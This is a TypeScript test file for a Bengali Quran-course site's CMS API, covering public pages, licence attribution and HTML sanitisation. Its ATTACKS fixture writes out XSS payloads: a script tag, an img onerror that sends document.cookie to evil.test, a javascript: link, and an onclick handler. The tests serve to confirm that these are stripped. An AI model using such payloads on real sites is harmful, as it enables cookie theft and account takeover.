import type { V2Schemas } from '@tilawat/sdk';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { appForFile, type TestApp } from '../../../test/helpers';
import { getter } from '../../../test/seeded';
import { CMS_PAGES } from '../../seed/cms.data';
import { createCmsService } from './cms.service';
import { cmsPages } from './cms.table';

const bengali = /[\u0980-\u09FF]/;

let t: TestApp;
const get = getter(() => t);

appForFile((app) => {
  t = app;
});

describe('v2 CMS', () => {
  it('answers the header and footer', async () => {
    const body = await get<V2Schemas['HeaderFooter']>('/api/v2/cms/public/header-footer');
    expect(body.header_links.length).toBeGreaterThan(0);
    expect(body.footer_columns.length).toBeGreaterThan(0);
    expect(body.copyright).toMatch(bengali);
  });

  it('answers published pages and 404 for others', async () => {
    for (const slug of ['about-us', 'privacy-policy']) {
      const page = await get<V2Schemas['CmsPage']>(`/api/v2/cms/public/${slug}`);
      expect(page.slug).toBe(slug);
      expect(page.body_html).toMatch(/^<h2>/);
      expect(page.title).toMatch(bengali);
    }
    const missing = await get<V2Schemas['Error']>('/api/v2/cms/public/no-such-page', null, 404);
    expect(missing.msg).toMatch(bengali);
    await get('/api/v2/cms/public/Not_A_Slug', null, 400);
  });

  it('the about page carries the Quran text’s attribution as its licence asks, through the HTML policy (docs/licences.md)', async () => {
    const about = (await get<V2Schemas['CmsPage']>('/api/v2/cms/public/about-us')).body_html;
    // The maker, the material, the licence by name with its link, the change made and its licence.
    expect(about).toContain('রিসান বাগজা প্রদানার (Risan Bagja Pradana)');
    expect(about).toMatch(/<a href="https:\/\/github.com\/risan\/quran-json"[^>]*>quran-json<\/a>/);
    expect(about).toMatch(/<a href="https:\/\/quranenc.com"[^>]*>/);
    expect(about).toMatch(
      /<a href="https:\/\/creativecommons.org\/licenses\/by-sa\/4.0\/"[^>]*>[^<]*CC BY-SA 4.0[^<]*<\/a>/,
    );
    expect(about).toContain('প্রতিটি আয়াত শব্দে ভাগ করেছি');
    expect(about).toContain('শব্দে ভাগ করা পাঠটিও একই লাইসেন্সে, CC BY-SA 4.0-এ');
    // No translation is shown, so none is credited.
    expect(about).not.toMatch(/tanzil|অনুবাদ|বাংলা অর্থ/i);
  });
});

// Issue 35: an editor's HTML keeps headings, paragraphs, lists, https links and images, and loses what runs.
const ATTACKS =
  '<script>alert(document.cookie)</script>' +
  '<img src="https://cdn.tilawat.com.bd/x.png" onerror="fetch(\'https://evil.test/?\'+document.cookie)" alt="ছবি">' +
  '<a href="javascript:alert(1)">এখানে চাপুন</a>';
const FORMATTING =
  '<h2>ভর্তির নিয়ম</h2><p>প্রথমে <strong>ব্যাচ</strong> বেছে নিন।</p>' +
  '<ul><li>বিকাশ</li><li>নগদ</li></ul>' +
  '<p><a href="https://tilawat.com.bd/al-quran-course">সব কোর্স</a></p>' +
  '<p><img src="https://cdn.tilawat.com.bd/makhraj.png" alt="মাখরাজ" /></p>';
const CLEAN = `${FORMATTING}<img src="https://cdn.tilawat.com.bd/x.png" alt="ছবি" /><a>এখানে চাপুন</a>`;

const page = (slug: string, bodyHtml: string) => ({
  slug,
  title: 'ভর্তির নিয়ম',
  bodyHtml,
  metaTitle: null,
  metaDescription: null,
});
const stored = async (slug: string) =>
  (await t.db.select().from(cmsPages).where(eq(cmsPages.slug, slug)))[0]?.bodyHtml;

describe("a CMS page's HTML (issue 35)", () => {
  it('is sanitised when written: no <script>, onerror= or javascript: link is stored, formatting is', async () => {
    const cms = createCmsService({ db: t.db, clock: t.clock });
    const saved = await cms.savePage(page('admission-rules', FORMATTING + ATTACKS));
    expect(saved.bodyHtml).toBe(CLEAN);
    expect(await stored('admission-rules')).toBe(CLEAN);
    const served = await get<V2Schemas['CmsPage']>('/api/v2/cms/public/admission-rules');
    expect(served.body_html).toBe(CLEAN);

    // written again over the same slug: the new text, sanitised as well
    await cms.savePage(page('admission-rules', '<p onclick="steal()">হালনাগাদ</p>'));
    expect(await stored('admission-rules')).toBe('<p>হালনাগাদ</p>');
  });

  it('is sanitised when answered, for a page stored before the rule or by hand', async () => {
    await t.db
      .insert(cmsPages)
      .values({ ...page('old-admission', FORMATTING + ATTACKS), updatedAt: t.clock.now() });
    const served = await get<V2Schemas['CmsPage']>('/api/v2/cms/public/old-admission');
    expect(served.body_html).toBe(CLEAN);
  });

  it('leaves the seeded pages exactly as they were written', async () => {
    for (const seeded of CMS_PAGES) {
      const served = await get<V2Schemas['CmsPage']>(`/api/v2/cms/public/${seeded.slug}`);
      expect(served.body_html).toBe(seeded.bodyHtml);
    }
  });
});
